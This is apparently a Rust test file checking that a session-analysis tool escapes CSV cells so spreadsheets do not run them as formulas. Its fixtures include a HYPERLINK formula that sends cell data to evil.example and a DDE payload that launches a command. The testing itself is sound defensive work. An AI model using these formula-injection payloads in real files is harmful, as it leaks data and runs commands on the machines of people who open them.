//! CSV files of a session with IDs and texts that a spreadsheet would run as formulas.

use crate::common::CommandFolder;

const SESSION: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")";
const FACT: &str = "@SUM(1+1)*cmd|'/c calc'!A0";

/// Two turns with a subagent, a fact and a compaction.
const HOSTILE: &str = include_str!("../data/formulas.jsonl");

/// Returns whether a cell is neither a formula nor a terminal sequence. Numbers may have a sign.
fn is_harmless(cell: &str) -> bool {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
    let steers = |c: char| c.is_control() && c != '\n' && c != '\t';
    (!formula || cell.parse::<f64>().is_ok()) && !cell.contains(steers)
}

#[test]
fn csv_cells_of_a_hostile_session_are_not_formulas() {
    let here = CommandFolder::with("hostile.jsonl", HOSTILE);
    let strategies = "--strategy reference --strategy codex --strategy keep-nothing";
    here.run(&format!("run hostile.jsonl {strategies} --transport direct --out out")).ok();
    here.run("report out --format csv -o csv --no-redact").ok();
    let (mut files, mut escaped, mut below_zero) = (0, 0, 0);
    for folder in ["out", "csv"] {
        for name in here.files(folder).keys().filter(|n| n.ends_with(".csv")) {
            files += 1;
            for row in here.csv(&format!("{folder}/{name}")) {
                for (column, cell) in row {
                    assert!(is_harmless(&cell), "{folder}/{name}: {column} is {cell:?}");
                    escaped += usize::from(cell.starts_with('\''));
                    below_zero += usize::from(cell.starts_with('-'));
                }
            }
        }
    }
    assert_eq!(files, 12);
    // A compaction of such a short session costs more than none. Negative amounts remain numbers.
    assert!(escaped > 0 && below_zero > 0, "{escaped} escaped, {below_zero} below zero");
    let row = &here.csv("out/facts.csv")[0];
    assert_eq!((&*row["scenario"], &*row["fact"]), (&*format!("'{SESSION}"), &*format!("'{FACT}")));
    let told = &here.csv("out/delegation.csv")[0]["agent"];
    assert_eq!(*told, "'+agent\u{fffd}[2J\u{fffd}");
}

#[test]
fn results_with_hostile_ids_work_with_every_command() {
    let here = CommandFolder::with("hostile.jsonl", HOSTILE);
    let run = "run hostile.jsonl --strategy codex --strategy none --transport direct --out";
    here.run(&format!("{run} out")).ok();
    here.run(&format!("{run} again")).ok();
    here.run("gate out --baseline base.json --store").ok();
    here.run("gate again --baseline base.json").ok();
    here.run("compare out again").ok();
    here.run("explain again").arg(FACT).ok();
    // Machine-readable output contains the exact text.
    assert_eq!(here.runs("again")[0]["scenario"]["id"], SESSION);
}
